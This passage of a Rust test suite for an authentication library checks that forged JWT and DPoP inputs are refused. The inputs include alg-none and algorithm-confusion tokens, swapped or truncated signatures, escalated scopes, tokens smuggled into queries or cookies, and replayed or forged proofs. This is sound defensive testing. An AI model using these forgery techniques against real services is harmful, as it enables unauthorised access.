    let mallory = world
        .dev
        .token()
        .subject("mallory")
        .scopes([] as [&str; 0])
        .sign();
    let reply = send(&world.app, get("/orders", &alice)).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    assert_eq!(world.calls.load(Ordering::SeqCst), 1);
    let [h, p, s] = parts(&alice);
    let [mh, mp, ms] = parts(&mallory);
    let header_json: Value = serde_json::from_slice(&decode(&h)).unwrap();
    let reheader = |edit: &dyn Fn(&mut Value)| {
        let mut header = header_json.clone();
        edit(&mut header);
        format!("{}.{p}.{s}", b64(header.to_string()))
    };
    let mut claims: Value = serde_json::from_slice(&decode(&p)).unwrap();
    claims["scope"] = json!("orders:read orders:write admin");
    let escalated = b64(claims.to_string());
    // The last character of a 64-byte signature carries 4 unused bits: set one.
    let mut noncanonical = s.clone();
    let last = noncanonical.pop().unwrap();
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let index = alphabet.find(last).unwrap();
    noncanonical.push(alphabet.as_bytes()[index | 1] as char);

    let static_valid = signed(
        &keys.rsa,
        &header("RS256", Some("rsa")),
        &claims_for(STATIC),
    );
    let [sh, sp, ss] = parts(&static_valid);
    let cases = vec![
        Case::token(
            "dev: signature removed, dot kept",
            format!("{h}.{p}."),
            refused("malformed_token"),
        ),
        Case::token(
            "dev: signature and its dot removed",
            format!("{h}.{p}"),
            refused("malformed_token"),
        ),
        Case::token(
            "dev: alg none, signature removed",
            format!("{}.{p}.", b64(dev_header(&world.dev, "none").to_string())),
            refused("malformed_token"),
        ),
        Case::token(
            "dev: alg none, signature kept",
            reheader(&|header| header["alg"] = json!("none")),
            refused("algorithm_not_allowed"),
        ),
        Case::token(
            "dev: alg HS256, signature kept",
            reheader(&|header| header["alg"] = json!("HS256")),
            refused("algorithm_not_allowed"),
        ),
        Case::token(
            "dev: alg ES384, signature kept",
            reheader(&|header| header["alg"] = json!("ES384")),
            refused("key_algorithm_mismatch"),
        ),
        Case::token(
            "dev: the next key's kid, signature kept",
            reheader(&|header| header["kid"] = json!(world.dev.next_kid())),
            refused("bad_signature"),
        ),
        Case::token(
            "dev: kid removed, signature kept",
            reheader(&|header| {
                header.as_object_mut().unwrap().remove("kid");
            }),
            refused("ambiguous_key"),
        ),
        Case::token(
            "dev: header re-encoded with spaces, signature kept",
            format!(
                "{}.{p}.{s}",
                b64(serde_json::to_string_pretty(&header_json).unwrap())
            ),
            refused("bad_signature"),
        ),
        Case::token(
            "dev: scopes escalated, signature kept",
            format!("{h}.{escalated}.{s}"),
            refused("bad_signature"),
        ),
        Case::token(
            "dev: another token's payload under this signature",
            format!("{h}.{mp}.{s}"),
            refused("bad_signature"),
        ),
        Case::token(
            "dev: signatures swapped between two valid tokens",
            format!("{mh}.{mp}.{s}"),
            refused("bad_signature"),
        ),
        Case::token(
            "dev: this payload under another token's signature",
            format!("{h}.{p}.{ms}"),
            refused("bad_signature"),
        ),
        Case::token(
            "dev: signature truncated by one character",
            format!("{h}.{p}.{}", &s[..s.len() - 1]),
            refused("bad_signature"),
        ),
        Case::token(
            "dev: signature truncated by four characters",
            format!("{h}.{p}.{}", &s[..s.len() - 4]),
            refused("bad_signature"),
        ),
        Case::token(
            "dev: two characters appended to the signature",
            format!("{h}.{p}.{s}AA"),
            refused("bad_signature"),
        ),
        Case::token(
            "dev: the signature twice",
            format!("{h}.{p}.{s}{s}"),
            refused("bad_signature"),
        ),
        Case::token(
            "dev: a non-canonical last signature character",
            format!("{h}.{p}.{noncanonical}"),
            refused("bad_signature"),
        ),
        Case::token(
            "STATIC: an RS256 signature moved onto the development issuer's token",
            format!("{h}.{p}.{ss}"),
            refused("bad_signature"),
        ),
        Case::token(
            "STATIC: the development signature moved onto an RS256 token",
            format!("{sh}.{sp}.{s}"),
            refused("bad_signature"),
        ),
    ];
    check(&world, cases).await;
    // The cached token is untouched by all this.
    assert_eq!(
        send(&world.app, get("/orders", &alice)).await.status,
        StatusCode::OK
    );
}

#[tokio::test]
async fn tokens_outside_one_authorization_header() {
    let world = world().await;
    let valid = dev_token(&world.dev, &claims("orders:read"));
    let request = |uri: String, authorization: &[&str], extra: Option<(&str, &str)>| {
        let mut builder = Request::get(uri);
        for value in authorization {
            builder = builder.header("authorization", *value);
        }
        if let Some((name, value)) = extra {
            builder = builder.header(name, value);
        }
        builder.body(Body::empty()).unwrap()
    };
    let bearer = format!("Bearer {valid}");
    let cases = vec![
        Case::request(
            "the token only in the query",
            request(format!("/orders?access_token={valid}"), &[], None),
            bad_request("token_in_query"),
        ),
        Case::request(
            "the token in the header and in the query",
            request(format!("/orders?access_token={valid}"), &[&bearer], None),
            bad_request("token_in_query"),
        ),
        Case::request(
            "a valid header, junk in the query's access_token",
            request("/orders?access_token=x".into(), &[&bearer], None),
            bad_request("token_in_query"),
        ),
        Case::request(
            "a valid header, an empty access_token in the query",
            request("/orders?access_token=".into(), &[&bearer], None),
            bad_request("token_in_query"),
        ),
        Case::request(
            "a valid header, access_token without a value",
            request("/orders?access_token".into(), &[&bearer], None),
            bad_request("token_in_query"),
        ),
        Case::request(
            "the token as the second query parameter",
            request(format!("/orders?page=2&access_token={valid}"), &[], None),
            bad_request("token_in_query"),
        ),
        Case::request(
            "the token in the query, its name percent-encoded (access%5Ftoken)",
            request(format!("/orders?access%5Ftoken={valid}"), &[&bearer], None),
            bad_request("token_in_query"),
        ),
        Case::request(
            "the token in the query, its name percent-encoded (%61ccess_token)",
            request(format!("/orders?%61ccess_token={valid}"), &[], None),
            bad_request("token_in_query"),
        ),
        Case::request(
            "two bearer headers",
            request("/orders".into(), &[&bearer, &bearer], None),
            bad_request("multiple_authorization_headers"),
        ),
        Case::request(
            "a Basic header and a bearer header",
            request("/orders".into(), &["Basic YWxpY2U6c2VjcmV0", &bearer], None),
            bad_request("multiple_authorization_headers"),
        ),
        Case::request(
            "the token in a cookie",
            request(
                "/orders".into(),
                &[],
                Some(("cookie", &format!("access_token={valid}"))),
            ),
            CHALLENGED,
        ),
        Case::request(
            "the token in X-Access-Token",
            request("/orders".into(), &[], Some(("x-access-token", &valid))),
            CHALLENGED,
        ),
        Case::request(
            "the token under another scheme (Token)",
            request("/orders".into(), &[&format!("Token {valid}")], None),
            CHALLENGED,
        ),
        Case::request(
            "the token under the scheme Bearer: (with a colon)",
            request("/orders".into(), &[&format!("Bearer:{valid}")], None),
            CHALLENGED,
        ),
        Case::request(
            "the token alone, without a scheme",
            request("/orders".into(), &[&valid], None),
            CHALLENGED,
        ),
    ];
    check(&world, cases).await;
}

#[tokio::test]
async fn weak_and_unusable_keys_are_refused_at_start_up() {
    let build = |issuer: Issuer| async move {
        Security::builder()
            .issuer(issuer)
            .default_rate(rate!("1000/s"))
            .build()
            .await
    };
    for bytes in [0, 1, 16, 31] {
        let secret = SecretSlice::from(vec![7u8; bytes]);
        let error = build(
            Issuer::new(STATIC)
                .audience(AUDIENCE)
                .hmac_secret(Some("hs"), &secret),
        )
        .await
        .unwrap_err();
        assert_eq!(
            error,
            ConfigError::Key {
                issuer: STATIC.into(),
                source: KeyError::WeakHmacSecret { bytes }
            }
        );
        // Good asymmetric keys next to it do not excuse it.
        let error = build(
            Issuer::new(STATIC)
                .audience(AUDIENCE)
                .jwks_json(&static_jwks())
                .hmac_secret(Some("hs"), &secret),
        )
        .await
        .unwrap_err();
        assert!(
            matches!(
                error,
                ConfigError::Key {
                    source: KeyError::WeakHmacSecret { .. },
                    ..
                }
            ),
            "{error:?}"
        );
    }
    let strong = SecretSlice::from(vec![7u8; 32]);
    assert!(
        build(
            Issuer::new(STATIC)
                .audience(AUDIENCE)
                .hmac_secret(Some("hs"), &strong)
        )
        .await
        .is_ok()
    );

    // A symmetric key is never taken from a JWKS document, nor an RSA key under 2048 bits:
    // a document of only those leaves the issuer without keys.
    let oct = json!({"keys": [{"kty": "oct", "kid": "hs", "k": b64(HMAC_SECRET)}]}).to_string();
    assert_eq!(
        build(Issuer::new(STATIC).audience(AUDIENCE).jwks_json(&oct))
            .await
            .unwrap_err(),
        ConfigError::NoKeys(STATIC.into())
    );
    let mut modulus = vec![0xc5u8; 128];
    modulus[127] |= 1;
    let weak_rsa = json!({"keys": [{"kty": "RSA", "kid": "rsa", "n": b64(&modulus), "e": "AQAB"}]})
        .to_string();
    assert_eq!(
        build(Issuer::new(STATIC).audience(AUDIENCE).jwks_json(&weak_rsa))
            .await
            .unwrap_err(),
        ConfigError::NoKeys(STATIC.into())
    );
}

// ---------------------------------------------------------------------------------------
// DPoP (RFC 9449): tokens bound to a key of the client's, each request with a proof.

/// An endpoint that takes DPoP-bound tokens only, whatever their issuer's mode.
#[secure(
    get,
    path = "/payments",
    scope = "orders:read",
    rate = "unlimited",
    dpop
)]
async fn list_payments(State(calls): State<Calls>, who: Principal) -> String {
    calls.fetch_add(1, Ordering::SeqCst);
    format!("payments of {}", who.subject().unwrap_or("?"))
}

/// The public origin the DPoP application is configured with.
const PUBLIC_ORIGIN: &str = "https://api.test";
/// An issuer whose tokens must all be DPoP-bound.
const DPOP_ONLY: &str = "https://dpop-only.test/";
/// An issuer whose DPoP-bound tokens are refused.
const NO_DPOP: &str = "https://no-dpop.test/";

/// The application under DPoP attacks: the development issuer (bound tokens need a proof,
/// bearer tokens pass), `DPOP_ONLY` and `NO_DPOP` (both with `STATIC`'s Ed25519 key), the
/// endpoint served at `/orders` and, nested, at `/v1/orders`.
struct DpopWorld {
    dev: DevIssuer,
    app: axum::Router,
    audit: AuditLog,
    calls: Calls,
    /// The client's key, which its tokens are bound to.
    client: TestKey,
}

async fn dpop_world() -> DpopWorld {
    let dev = dev_issuer();
    let audit = AuditLog::default();
    let with_ed = |issuer: &str| {
        Issuer::new(issuer)
            .audience(AUDIENCE)
            .jwks_json(&jwks(&[&KEYS.ed]))
    };
    let security = Security::builder()
        .issuer(dev.issuer())
        .issuer(with_ed(DPOP_ONLY).dpop(DpopMode::Required))
        .issuer(with_ed(NO_DPOP).dpop(DpopMode::Refused))
        .dpop(Dpop::new(PUBLIC_ORIGIN))
        .default_rate(rate!("1000/s"))
        .realm("attacks")
        .auth_failure_limit(None)
        .audit_sink(audit.sink())
        .build()
        .await
        .unwrap();
    let calls = Calls::default();
    let api = SecureRouter::new(security)
        .mount(routes![list_orders, list_payments])
        .into_router()
        .with_state(calls.clone());
    let app = axum::Router::new().nest("/v1", api.clone()).merge(api);
    DpopWorld {
        dev,
        app,
        audit,
        calls,
        client: TestKey::ec("client", false),
    }
}

impl DpopWorld {
    /// A development-issuer token bound to `key`.
    fn bound_token(&self, key: &TestKey) -> String {
        let mut claims = claims("orders:read");
        claims["cnf"] = json!({ "jkt": dpop::thumbprint(key) });
        dev_token(&self.dev, &claims)
    }
}

/// `GET path` with `Authorization: <scheme> <token>` and the given `DPoP` headers.
fn dpop_get(path: &str, scheme: &str, token: &str, proofs: &[&str]) -> Request<Body> {
    let mut request = Request::get(path).header("authorization", format!("{scheme} {token}"));
    for proof in proofs {
        request = request.header("dpop", *proof);
    }
    request.body(Body::empty()).unwrap()
}

/// Sends `request` and checks that it was accepted (the handler ran).
async fn accepted(world: &DpopWorld, name: &str, request: Request<Body>) {
    let before = world.calls.load(Ordering::SeqCst);
    let reply = send(&world.app, request).await;
    assert_eq!(reply.status, StatusCode::OK, "{name}: {}", reply.text);
    assert_eq!(world.calls.load(Ordering::SeqCst), before + 1, "{name}");
}

/// Sends `request` and checks the refusal: 401, the challenge (`DPoP` first for a DPoP
/// failure, with its `algs`), its error, the audit reason, one denial audited, the handler
/// not run, the token not echoed.
async fn refused_dpop(
    world: &DpopWorld,
    name: &str,
    request: Request<Body>,
    token: &str,
    expect: Expect,
) -> Result<(), String> {
    let calls_before = world.calls.load(Ordering::SeqCst);
    let events_before = world.audit.events().len();
    let reply = send(&world.app, request).await;
    let challenges: Vec<String> = reply
        .headers
        .get_all("www-authenticate")
        .iter()
        .map(|value| value.to_str().unwrap().to_owned())
        .collect();
    let first = challenges.first().cloned().unwrap_or_default();
    let events = world.audit.events();
    let new_events = &events[events_before.min(events.len())..];
    let reason = new_events
        .last()
        .map_or("(no audit event)", |event| event.reason.as_str());
    let error = challenge_param(&first, "error");
    let mut problems = Vec::new();
    if (reply.status, error.as_deref(), reason) != (expect.status, expect.error, expect.reason) {
        problems.push(format!(
            "expected {} {:?} {:?}, got {} {:?} {reason:?}",
            expect.status.as_u16(),
            expect.error,
            expect.reason,
            reply.status.as_u16(),
            error.as_deref(),
        ));
    }
    let dpop_first = expect.reason.starts_with("dpop_");
    let scheme_ok = if dpop_first {
        first.starts_with("DPoP realm=\"attacks\"") && first.contains("algs=\"ES256 ")
    } else {
        first.starts_with("Bearer realm=\"attacks\"")
    };
    if !scheme_ok || challenges.len() != 2 {
        problems.push(format!("challenges {challenges:?}"));
    }
    if world.calls.load(Ordering::SeqCst) != calls_before {
        problems.push("THE HANDLER RAN".to_owned());
    }
    if !matches!(new_events, [event] if event.decision == Decision::Deny) {
        problems.push(format!("{} audit events, not one denial", new_events.len()));
    }
    if reply.text.contains(token) {
        problems.push("the token was echoed".to_owned());
    }
    if problems.is_empty() {
        Ok(())
    } else {
        Err(format!("- {name}: {}", problems.join("; ")))
    }
}

/// 401 `invalid_dpop_proof`, for `reason`.
const fn bad_proof(reason: &'static str) -> Expect {
    Expect {
        status: StatusCode::UNAUTHORIZED,
        error: Some("invalid_dpop_proof"),
        reason,
    }
}

#[tokio::test]
async fn dpop_bound_tokens_are_accepted_with_valid_proofs_only() {
    let world = dpop_world().await;
    let client = &world.client;
    let token = world.bound_token(client);
    let htu = format!("{PUBLIC_ORIGIN}/orders");
    // Verified, then from the verified-token cache: each request with a fresh proof.
    for round in 0..3 {
        let proof = dpop::proof(client, "GET", &htu, &token);
        accepted(
            &world,
            &format!("round {round}"),
            dpop_get("/orders", "DPoP", &token, &[&proof]),
        )
        .await;
    }
    // The scheme's name in any case; a query is not part of `htu`.
    let proof = dpop::proof(client, "GET", &htu, &token);
    accepted(
        &world,
        "dpop scheme",
        dpop_get("/orders?page=2", "dpop", &token, &[&proof]),
    )
    .await;
    // Nested under /v1: the proof names the path the client sent.
    let proof = dpop::proof(client, "GET", &format!("{PUBLIC_ORIGIN}/v1/orders"), &token);
    accepted(
        &world,
        "nested",
        dpop_get("/v1/orders", "DPoP", &token, &[&proof]),
    )
    .await;
    // A Host header naming another origin changes nothing: the configured origin counts.
    let proof = dpop::proof(client, "GET", &htu, &token);
    let mut request = dpop_get("/orders", "DPoP", &token, &[&proof]);
    request
        .headers_mut()
        .insert("host", "evil.test".parse().unwrap());
    accepted(&world, "other Host", request).await;
    // Keys of every kind a client may hold.
    for key in [&KEYS.ed, &KEYS.rsa, &KEYS.p384] {
        let token = world.bound_token(key);
        let proof = dpop::proof(key, "GET", &htu, &token);
        accepted(
            &world,
            dpop::alg_of(key),
            dpop_get("/orders", "DPoP", &token, &[&proof]),
        )
        .await;
    }
    // Unbound bearer tokens of the development issuer still pass.
    let bearer = dev_token(&world.dev, &claims("orders:read"));
    accepted(&world, "bearer", get("/orders", &bearer)).await;
    // An endpoint declared with `dpop` takes the bound token with its proof.
    let proof = dpop::proof(client, "GET", &format!("{PUBLIC_ORIGIN}/payments"), &token);
    accepted(
        &world,
        "dpop endpoint",
        dpop_get("/payments", "DPoP", &token, &[&proof]),
    )
    .await;
    // Every answer was audited as allowed, with no reason of refusal.
    assert!(
        world
            .audit
            .events()
            .iter()
            .all(|event| event.decision == Decision::Allow)
    );
}

#[tokio::test]
async fn dpop_attacks_are_refused_with_their_reasons() {
    let world = dpop_world().await;
    let client = &world.client;
    let attacker = &KEYS.attacker;
    let token = world.bound_token(client);
    let htu = format!("{PUBLIC_ORIGIN}/orders");
    let valid = |method: &str, htu: &str| dpop::proof(client, method, htu, &token);
    let with_claims = |edit: &dyn Fn(&mut Value)| {
        let mut claims = dpop::proof_claims("GET", &htu, &token);
        edit(&mut claims);
        dpop::sign_proof(client, &dpop::proof_header(client), &claims)
    };
    let with_header = |edit: &dyn Fn(&mut Value)| {
        let mut header = dpop::proof_header(client);
        edit(&mut header);
        dpop::sign_proof(client, &header, &dpop::proof_claims("GET", &htu, &token))
    };
    let replayed = valid("GET", &htu);
    accepted(
        &world,
        "first use",
        dpop_get("/orders", "DPoP", &token, &[&replayed]),
    )
    .await;
    let mut private = dpop::public_jwk(client);
    private["d"] = json!(b64([7u8; 32]));
    let hmac_proof = {
        let header = json!({ "typ": "dpop+jwt", "alg": "HS256", "jwk": { "kty": "oct", "k": b64(HMAC_SECRET) } });
        hmac_signed(
            "HS256",
            HMAC_SECRET,
            &header,
            &dpop::proof_claims("GET", &htu, &token),
        )
    };
    // With a signature of one zero byte: `none` refused for what it is (with an empty
    // signature, the proof is not even a JWS).
    let none_proof = format!(
        "{}.AA",
        signing_input(
            &json!({ "typ": "dpop+jwt", "alg": "none", "jwk": dpop::public_jwk(client) }),
            &dpop::proof_claims("GET", &htu, &token).to_string()
        )
    );
    // Signed by the attacker's key, whose JWK it carries: a valid proof of another key.
    let attackers_own = dpop::proof(attacker, "GET", &htu, &token);
    // The client's JWK, signed by the attacker.
    let forged = dpop::sign_proof(
        attacker,
        &dpop::proof_header(client),
        &dpop::proof_claims("GET", &htu, &token),
    );
    let other_token = world.bound_token(client);
    let unbound = dev_token(&world.dev, &claims("orders:read"));
    let mut x5t = claims("orders:read");
    x5t["cnf"] = json!({ "x5t#S256": b64([1u8; 32]) });
    let certificate_bound = dev_token(&world.dev, &x5t);
    let mut embedded = claims("orders:read");
    embedded["cnf"] = json!({ "jwk": dpop::public_jwk(client) });
    let key_bound = dev_token(&world.dev, &embedded);
    let dpop_only_bearer = static_token(&claims_for(DPOP_ONLY));
    let mut refused_claims = claims_for(NO_DPOP);
    refused_claims["cnf"] = json!({ "jkt": dpop::thumbprint(client) });
    let no_dpop_token = static_token(&refused_claims);
    let no_dpop_proof = dpop::proof(client, "GET", &htu, &no_dpop_token);

    let cases: Vec<(&str, Request<Body>, &str, Expect)> = vec![
        (
            "a replayed proof",
            dpop_get("/orders", "DPoP", &token, &[&replayed]),
            &token,
            bad_proof("dpop_replay"),
        ),
        (
            "a proof for another method",
            dpop_get("/orders", "DPoP", &token, &[&valid("POST", &htu)]),
            &token,
            bad_proof("dpop_htm_mismatch"),
        ),
        (
            "a proof for another path",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&valid("GET", &format!("{PUBLIC_ORIGIN}/admin"))],
            ),
            &token,
            bad_proof("dpop_htu_mismatch"),
        ),
        (
            "a proof for another origin",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&valid("GET", "https://evil.test/orders")],
            ),
            &token,
            bad_proof("dpop_htu_mismatch"),
        ),
        (
            "a proof without the prefix the app is nested under",
            dpop_get("/v1/orders", "DPoP", &token, &[&valid("GET", &htu)]),
            &token,
            bad_proof("dpop_htu_mismatch"),
        ),
        (
            "a proof naming the Host header's origin",
            {
                let mut request = dpop_get(
                    "/orders",
                    "DPoP",
                    &token,
                    &[&valid("GET", "https://evil.test/orders")],
                );
                request
                    .headers_mut()
                    .insert("host", "evil.test".parse().unwrap());
                request
            },
            &token,
            bad_proof("dpop_htu_mismatch"),
        ),
        (
            "a proof signed by another key",
            dpop_get("/orders", "DPoP", &token, &[&attackers_own]),
            &token,
            bad_proof("dpop_key_mismatch"),
        ),
        (
            "a proof with the client's key, signed by another",
            dpop_get("/orders", "DPoP", &token, &[&forged]),
            &token,
            bad_proof("dpop_bad_signature"),
        ),
        (
            "a proof carrying a private key",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&with_header(&|header| header["jwk"] = private.clone())],
            ),
            &token,
            bad_proof("dpop_private_key"),
        ),
        (
            "a proof with alg none",
            dpop_get("/orders", "DPoP", &token, &[&none_proof]),
            &token,
            bad_proof("dpop_algorithm_not_allowed"),
        ),
        (
            "an HMAC proof",
            dpop_get("/orders", "DPoP", &token, &[&hmac_proof]),
            &token,
            bad_proof("dpop_algorithm_not_allowed"),
        ),
        (
            "a proof without typ dpop+jwt",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&with_header(&|header| header["typ"] = json!("JWT"))],
            ),
            &token,
            bad_proof("dpop_wrong_type"),
        ),
        (
            "a proof without a key",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&with_header(&|header| {
                    header.as_object_mut().unwrap().remove("jwk");
                })],
            ),
            &token,
            bad_proof("dpop_bad_key"),
        ),
        (
            "a stale proof",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&with_claims(&|claims| claims["iat"] = json!(now() - 120))],
            ),
            &token,
            bad_proof("dpop_stale"),
        ),
        (
            "a proof from the future",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&with_claims(&|claims| claims["iat"] = json!(now() + 60))],
            ),
            &token,
            bad_proof("dpop_issued_in_future"),
        ),
        (
            "a proof for another token",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&dpop::proof(client, "GET", &htu, &other_token)],
            ),
            &token,
            bad_proof("dpop_ath_mismatch"),
        ),
        (
            "a proof without ath",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&with_claims(&|claims| {
                    claims.as_object_mut().unwrap().remove("ath");
                })],
            ),
            &token,
            bad_proof("dpop_malformed_proof"),
        ),
        (
            "a proof without jti",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&with_claims(&|claims| {
                    claims.as_object_mut().unwrap().remove("jti");
                })],
            ),
            &token,
            bad_proof("dpop_malformed_proof"),
        ),
        (
            "a proof that is no JWS",
            dpop_get("/orders", "DPoP", &token, &["not-a-proof"]),
            &token,
            bad_proof("dpop_malformed_proof"),
        ),
        (
            "no proof",
            dpop_get("/orders", "DPoP", &token, &[]),
            &token,
            bad_proof("dpop_proof_missing"),
        ),
        (
            "two proofs",
            dpop_get(
                "/orders",
                "DPoP",
                &token,
                &[&valid("GET", &htu), &valid("GET", &htu)],
            ),
            &token,
            bad_proof("dpop_multiple_proofs"),
        ),
        (
            "a bound token as Bearer",
            get("/orders", &token),
            &token,
            refused("dpop_bound_token_as_bearer"),
        ),
        (
            "a bound token as Bearer, with a valid proof",
            dpop_get("/orders", "Bearer", &token, &[&valid("GET", &htu)]),
            &token,
            refused("dpop_bound_token_as_bearer"),
        ),
        (
            "an unbound token with the DPoP scheme",
            dpop_get(
                "/orders",
                "DPoP",
                &unbound,
                &[&dpop::proof(client, "GET", &htu, &unbound)],
            ),
            &unbound,
            refused("dpop_token_not_bound"),
        ),
        (
            "a bearer token of an issuer that requires DPoP",
            get("/orders", &dpop_only_bearer),
            &dpop_only_bearer,
            refused("dpop_required"),
        ),
        (
            "a bound token of an issuer that refuses DPoP",
            dpop_get("/orders", "DPoP", &no_dpop_token, &[&no_dpop_proof]),
            &no_dpop_token,
            refused("dpop_not_accepted"),
        ),
        (
            "a certificate-bound token on a connection without a certificate",
            get("/orders", &certificate_bound),
            &certificate_bound,
            refused("certificate_missing"),
        ),
        (
            "a token bound to an embedded key (a binding Portcullis cannot check)",
            get("/orders", &key_bound),
            &key_bound,
            refused("unsupported_confirmation"),
        ),
        (
            "a bearer token on an endpoint declared with dpop",
            get("/payments", &unbound),
            &unbound,
            refused("dpop_required"),
        ),
    ];
    let mut failures = Vec::new();
    let count = cases.len();
    for (name, request, token, expect) in cases {
        if let Err(failure) = refused_dpop(&world, name, request, token, expect).await {
            failures.push(failure);
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {count} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Without a DPoP configuration there is no origin to hold proofs to: a bound token is
/// refused, with or without a proof.
#[tokio::test]
async fn dpop_bound_tokens_are_refused_where_dpop_is_not_configured() {
    let dev = dev_issuer();
    let (security, audit) = audited_security(&dev).await;
    let app = SecureRouter::new(security)
        .mount(routes![list_orders])
        .into_router()
        .with_state(Calls::default());
    let client = TestKey::ec("client", false);
    let mut bound = claims("orders:read");
    bound["cnf"] = json!({ "jkt": dpop::thumbprint(&client) });
    let token = dev_token(&dev, &bound);
    let proof = dpop::proof(&client, "GET", "http://localhost/orders", &token);
    let reply = send(&app, dpop_get("/orders", "DPoP", &token, &[&proof])).await;
    assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
    assert_eq!(audit.last().reason, "dpop_not_configured");
    let reply = send(&app, get("/orders", &token)).await;
    assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
    assert_eq!(audit.last().reason, "dpop_bound_token_as_bearer");
}

/// The OpenAPI document of an API of `list_orders` under `security`.
async fn openapi_document(security: Security) -> Value {
    let app = SecureRouter::new(security)
        .mount(routes![list_orders, recent_orders, greeting])
        .with_openapi("/openapi.json")
        .into_router()
        .with_state(Calls::default());
    send(
        &app,
        Request::get("/openapi.json").body(Body::empty()).unwrap(),
    )
    .await
    .json()
}

/// The OpenAPI document states which tokens each issuer's scheme takes, and how: DPoP-bound
/// ones with proofs, certificate-bound ones on their certificate's connections.
#[tokio::test]
async fn the_openapi_document_states_dpop() {
    let dev = dev_issuer();
    let security = Security::builder()
        .issuer(dev.issuer())
        .dpop(Dpop::new(PUBLIC_ORIGIN).algorithms([Algorithm::ES256, Algorithm::EdDSA]))
        .default_rate(rate!("1000/s"))
        .build()
        .await
        .unwrap();
    let document = openapi_document(security).await;
    let description = document["components"]["securitySchemes"]["oauth2"]["description"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(
        description.contains("`Authorization: DPoP <token>` with a `DPoP` proof (RFC 9449) signed with one of ES256 EdDSA"),
        "{description}"
    );
    assert!(
        description.contains("tokens bound to a client certificate (`cnf.x5t#S256`, RFC 8705) only on a connection with that certificate"),
        "{description}"
    );
    // Without server nonces, no answer carries one.
    for path in ["/orders", "/greeting"] {
        let responses = &document["paths"][path]["get"]["responses"];
        for status in ["200", "401"] {
            assert!(
                responses[status]["headers"].get("DPoP-Nonce").is_none(),
                "{path} {status}: {}",
                responses[status]
            );
        }
    }
}

/// With server nonces, the document says where `DPoP-Nonce` comes: on a secured
/// operation's 401 (`use_dpop_nonce`) and on its answer (the next nonce), and on those of
/// a public operation that reads the caller.
#[tokio::test]
async fn the_openapi_document_states_dpop_server_nonces() {
    let dev = dev_issuer();
    let key = SecretSlice::from(vec![9u8; 32]);
    let security = Security::builder()
        .issuer(dev.issuer())
        .dpop(Dpop::new(PUBLIC_ORIGIN).server_nonces(DpopNonces::new(&key)))
        .default_rate(rate!("1000/s"))
        .build()
        .await
        .unwrap();
    let document = openapi_document(security).await;
    let responses = &document["paths"]["/orders"]["get"]["responses"];
    for (status, says) in [
        ("200", "RFC 9449 §8.2"),
        ("401", "use_dpop_nonce"),
        ("403", "RFC 9449 §8.2"),
    ] {
        let header = &responses[status]["headers"]["DPoP-Nonce"];
        assert_eq!(header["schema"]["type"], "string", "{status}: {header}");
        assert!(
            header["description"]
                .as_str()
                .is_some_and(|description| description.contains(says)),
            "{status}: {header}"
        );
    }
    // Refused before any token is read.
    assert!(responses["400"]["headers"].get("DPoP-Nonce").is_none());
    let public = &document["paths"]["/greeting"]["get"]["responses"];
    for (status, says) in [("200", "RFC 9449 §8.2"), ("401", "use_dpop_nonce")] {
        let header = &public[status]["headers"]["DPoP-Nonce"];
        assert!(
            header["description"]
                .as_str()
                .is_some_and(|description| description.contains(says)),
            "/greeting {status}: {}",
            public[status]
        );
    }
    let limited = &document["paths"]["/orders/recent"]["get"]["responses"]["429"];
    let header = &limited["headers"]["DPoP-Nonce"];
    assert!(
        header["description"]
            .as_str()
            .is_some_and(|description| description.contains("RFC 9449 §8.2")),
        "{limited}"
    );
}

/// The development issuer binds a token to the key of the token request's DPoP proof
/// (`cnf.jkt`, `token_type` `DPoP`); the API then takes it with proofs of that key only. A
/// token-request proof is used once, and must name the token endpoint.
#[tokio::test]
async fn the_development_issuer_binds_tokens_to_the_key_of_the_token_requests_proof() {
    const DEV: &str = "http://127.0.0.1:3000/dev";
    let dev = DevIssuer::builder(DEV, AUDIENCE)
        .client(
            "cli",
            secrecy::SecretString::from("cli-secret"),
            ["orders:read"],
        )
        .build()
        .unwrap();
    let issuer_app: axum::Router = dev.router();
    let client = TestKey::ec("client", false);
    let token_request = |proof: Option<&str>| {
        let mut request = Request::post("/oauth/token")
            .header("content-type", "application/x-www-form-urlencoded")
            .header(
                "authorization",
                format!("Basic {}", STANDARD.encode("cli:cli-secret")),
            );
        if let Some(proof) = proof {
            request = request.header("dpop", proof);
        }
        request
            .body(Body::from(
                "grant_type=client_credentials&scope=orders%3Aread",
            ))
            .unwrap()
    };
    let token_proof = |htu: &str| {
        let mut claims = dpop::proof_claims("POST", htu, "");
        claims.as_object_mut().unwrap().remove("ath");
        dpop::sign_proof(&client, &dpop::proof_header(&client), &claims)
    };
    let proof = token_proof(&format!("{DEV}/oauth/token"));
    let reply = send(&issuer_app, token_request(Some(&proof))).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    let answer = reply.json();
    assert_eq!(answer["token_type"], "DPoP");
    let token = answer["access_token"].as_str().unwrap().to_owned();
    assert_eq!(
        claim(&token, "cnf"),
        json!({ "jkt": dpop::thumbprint(&client) }).to_string()
    );
    // The same proof again, a proof for another URL: refused.
    for (name, proof) in [
        ("replayed", proof.clone()),
        (
            "another URL",
            token_proof("http://127.0.0.1:3000/other/oauth/token"),
        ),
    ] {
        let reply = send(&issuer_app, token_request(Some(&proof))).await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{name}");
        assert_eq!(reply.json()["error"], "invalid_dpop_proof", "{name}");
    }
    // Without a proof: a bearer token, as before.
    let reply = send(&issuer_app, token_request(None)).await;
    assert_eq!(reply.json()["token_type"], "Bearer");

